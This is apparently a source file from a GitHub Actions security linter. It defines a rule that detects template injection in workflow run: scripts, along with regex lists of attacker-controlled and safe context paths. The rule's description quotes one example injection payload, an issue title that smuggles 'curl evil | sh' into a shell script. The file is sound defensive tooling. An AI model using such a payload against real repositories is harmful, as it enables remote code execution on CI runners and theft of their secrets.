import { child, text, type YNode } from '../yaml-tree.js';
import { actionName, type WorkflowModel } from '../workflow-model.js';
import type { RawFinding, Rule, Severity } from './rule.js';

// Fields of event payloads that anyone who can open an issue, a PR or push a branch controls.
const ATTACKER_CONTROLLED = [
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
  /^github\.event\.(head_commit|commits\[?.*?\]?)\.(message|author\.(name|email))/,
  /^github\.event\.workflow_run\.(head_branch|head_commit\.message|display_title)/,
  /^github\.event\.pages\[?.*?\]?\.page_name$/,
  /^github\.head_ref$/,
];

// Values the runner or GitHub produce, with no text an outsider chooses.
const SAFE = [
  /^github\.(sha|run_id|run_number|run_attempt|repository|repository_id|repository_owner|repository_owner_id|workspace|action_path|event_name|job|server_url|api_url|graphql_url|retention_days|workflow_sha)$/,
  /^runner\.\w+$/,
  /^strategy\.\w+$/,
  /^job\.status$/,
  /^(true|false|null|-?\d+(\.\d+)?)$/,
];

/** The context paths an expression reads: `github.event.issue.title`, `inputs.name`, ... */
function contextPaths(expression: string): string[] {
  // Index syntax (`github.event['comment'].body`) becomes dots before string literals are blanked.
  const dotted = expression.replace(/\[\s*'([\w-]+)'\s*\]/g, '.$1');
  const withoutStrings = dotted.replace(/'(?:[^']|'')*'/g, "''");
  return [
    ...withoutStrings.matchAll(
      /\b(github|inputs|steps|needs|matrix|env|vars|secrets|jobs|runner|strategy|job)((?:\.[\w-]+|\[[^\]]*\]|\.\*)*)/g,
    ),
  ].map((m) => `${m[1]}${m[2] ?? ''}`);
}

/** The severity of one expression inside a script, or undefined when it is harmless there. */
export function injectionSeverity(expression: string): Severity | undefined {
  const paths = contextPaths(expression);
  if (paths.length === 0) return undefined;
  if (paths.some((p) => ATTACKER_CONTROLLED.some((r) => r.test(p)))) return 'critical';
  if (paths.some((p) => p.startsWith('github.event.'))) return 'high';
  if (paths.every((p) => SAFE.some((r) => r.test(p)))) return undefined;
  return 'medium';
}

/** The line an offset of a scalar's text is on: block scalars start on the line after the key. */
function lineWithin(model: WorkflowModel, node: YNode, value: string, offset: number): number {
  const header = model.doc.lines[node.line - 1] ?? '';
  const block = /[|>][-+0-9]*\s*(#.*)?$/.test(header.trimEnd());
  const before = value.slice(0, offset).split('\n').length - 1;
  return node.line + (block ? 1 : 0) + before;
}

function scan(model: WorkflowModel, node: YNode | undefined, where: string, out: RawFinding[]): void {
  const value = text(node);
  if (!node || value === undefined) return;
  for (const match of value.matchAll(/\$\{\{([\s\S]*?)\}\}/g)) {
    const expression = (match[1] ?? '').trim();
    const severity = injectionSeverity(expression);
    if (!severity) continue;
    const name =
      expression
        .replace(/[^\w.-]+/g, '_')
        .replace(/^_+|_+$/g, '')
        .slice(0, 40)
        .toUpperCase()
        .replace(/[.-]/g, '_') || 'VALUE';
    out.push({
      message: `\${{ ${expression} }} is expanded into ${where} before the shell runs it`,
      line: lineWithin(model, node, value, match.index),
      severity,
      fix: `Pass it through the environment: \`env: { ${name}: \${{ ${expression} }} }\` and use "$${name}" in the script.`,
    });
  }
}

/** `${{ }}` with untrusted or variable data expanded inside `run:` scripts (and github-script's `script`). */
export const templateInjection: Rule = {
  id: 'template-injection',
  title: 'Expression expanded inside a script',
  severity: 'medium',
  description:
    'Expressions are substituted into the script text before the shell parses it, so an issue title such as `"; curl evil | sh; #` becomes code. Event payloads are attacker-controlled; inputs and step outputs often carry them onward.',
  fix: 'Move the expression into `env:` and reference the variable (`"$TITLE"`) in the script.',
  appliesTo: ['workflow', 'action'],
  check(model) {
    const out: RawFinding[] = [];
    for (const job of model.jobs) {
      for (const step of job.steps) {
        if (step.run !== undefined) scan(model, child(step.node, 'run'), 'the run: script', out);
        if (step.uses && actionName(step.uses) === 'actions/github-script')
          scan(model, child(step.with, 'script'), "github-script's script", out);
      }
    }
    return out;
  },
};
